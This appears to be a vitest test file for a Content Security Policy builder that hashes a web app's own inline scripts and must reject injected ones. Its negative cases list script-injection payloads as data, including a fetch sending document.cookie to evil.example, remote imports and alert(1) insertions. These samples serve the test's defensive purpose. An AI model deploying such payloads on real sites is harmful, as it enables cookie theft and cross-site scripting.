import {createHash} from 'node:crypto'
import {describe, expect, it} from 'vitest'
import {listOwnScript} from '#/lib/own-scripts'
import {buildScriptPolicy} from './script-policy'

const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`
const SOURCES = {
  scripts: ['https://tags.example'],
  connections: ['https://search.example'],
  images: ['https://pictures.example'],
  frames: ['https://player.example'],
}

function listHashes(html: string): readonly string[] {
  const [scripts = ''] = buildScriptPolicy(html, null).split(';')
  return scripts.split(' ').filter((source) => source.startsWith("'sha256"))
}

describe('script policy', () => {
  it('names each script that the product wrote by its hash, once', () => {
    listOwnScript('start()')
    listOwnScript('{"prefetch":[]}')
    listOwnScript('\n“é”\n')
    const page =
      '<head><script id="a">start()</script><script type="speculationrules">{"prefetch":[]}</script></head>' +
      '<script src="/_next/a.js" async=""></script><script>start()</script><script>\n“é”\n</script>'
    expect(listHashes(page)).toEqual([hash('start()'), hash('{"prefetch":[]}'), hash('\n“é”\n')])
  })

  it.each([
    ['the first data', '(self.__next_f=self.__next_f||[]).push([0])'],
    ['the state of a form', '(self.__next_f=self.__next_f||[]).push([0]);self.__next_f.push([2,null])'],
    ['data', 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n\\u003c/script\\u003e"])'],
    ['data of bytes', 'self.__next_f.push([3,"AAEC"])'],
    [
      'the names of its first files',
      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/36m.js","static/chunks/3f-.js"],"runtimeModuleIds":[500712]});',
    ],
    ['a part that is placed', '$RC("B:0","S:0")'],
    ['a part without its content', '$RX("B:1","digest")'],
    ['a part with styles', '$RR("B:0","S:0",[["/a.css","next"]])'],
    ['the time of the first paint', 'requestAnimationFrame(function(){$RT=performance.now()});'],
    [
      'React’s code with its first call',
      '$RS=function(a,b){a=document.getElementById(a);b=document.getElementById(b);for(a.parentNode.removeChild(a);a.firstChild;)b.parentNode.insertBefore(a.firstChild,b);b.parentNode.removeChild(b)};$RS("S:1","P:1")',
    ],
  ])('names what the framework writes: %s', (_what, text) => {
    expect(listHashes(`<script>${text}</script>`)).toEqual([hash(text)])
  })

  it.each([
    ['a call', 'fetch("//evil.example/"+document.cookie)'],
    [
      'a file from elsewhere among the first',
      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["//evil.example/a.js"],"runtimeModuleIds":[1]});',
    ],
    [
      'code behind the first files',
      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":[],"runtimeModuleIds":[1]});alert(1)',
    ],
    ['code behind data', 'self.__next_f.push([1,"a"]);fetch("//evil.example")'],
    ['code before data', 'fetch("//evil.example");self.__next_f.push([1,"a"])'],
    ['code in the place of data', 'self.__next_f.push([1,fetch("//evil.example")])'],
    ['a template in the place of data', 'self.__next_f.push([1,`alert`])'],
    ['code behind the first data', '(self.__next_f=self.__next_f||[]).push([0]);alert(1)'],
    ['code in a call of React', '$RC("B:0",alert(1))'],
    ['code behind a call of React', '$RC("B:0","S:0");alert("x")'],
    ['a function of React of one’s own', '$RC=function(){alert(1)};$RC("B:0","S:0")'],
    ['code behind React’s code', 'requestAnimationFrame(function(){$RT=performance.now()});alert(1)'],
    ['an own script with an addition', 'start();alert(1)'],
    ['an import', 'import("//evil.example/a.js")'],
    ['a comment around an own script', '/*start()*/alert(1)//start()'],
    ['an empty line of code', ';'],
  ])('does not name what was injected: %s', (_what, text) => {
    listOwnScript('start()')
    for (const tag of [
      '<script>',
      '<script type="module">',
      '<script id="page-start">',
      '<script nonce="a">',
    ])
      expect(listHashes(`<p>offer</p>${tag}${text}</script>`)).toEqual([])
  })

  it('allows no host and no handler by itself, and no limit on a preview', () => {
    const page = '<script type="application/ld+json">{"a":1}</script><p onclick="go()">'
    const policy = buildScriptPolicy(page, null)
    expect(policy).toBe("script-src 'self'; script-src-attr 'none'; worker-src 'self' blob:")
  })

  it('lets data go to the origins of the site alone', () => {
    const policy = buildScriptPolicy('', SOURCES).split('; ')
    expect(policy).toContain("script-src 'self' https://tags.example")
    expect(policy).toContain("default-src 'self'")
    expect(policy).toContain("connect-src 'self' https://search.example")
    expect(policy).toContain("img-src 'self' data: blob: https://pictures.example")
    expect(policy).toContain("frame-src 'self' https://player.example")
    expect(policy.join('; ')).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline| \*/)
  })
})
